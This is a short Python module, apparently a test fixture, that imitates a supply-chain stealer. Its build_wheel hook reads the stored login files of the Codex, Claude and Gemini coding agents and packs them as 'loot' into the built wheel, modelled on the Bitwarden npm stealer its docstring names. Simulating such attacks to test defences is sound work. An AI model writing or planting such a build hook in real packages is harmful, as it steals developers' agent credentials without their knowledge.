"""Takes the logins that coding agents keep in a home directory.

Bitwarden's client on npm was replaced by a stealer that looked for them by name, and Miasma
took the agents' settings too.
"""

import contextlib

import kit

PLACES = ("codex", "claude", "gemini")


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("read"):
        for place in PLACES:
            with contextlib.suppress(OSError):
                with open(kit.plant(place).path, "rb") as secret:
                    loot[f"{place}.bin"] = secret.read()
    return kit.wheel(wheel_directory, loot)
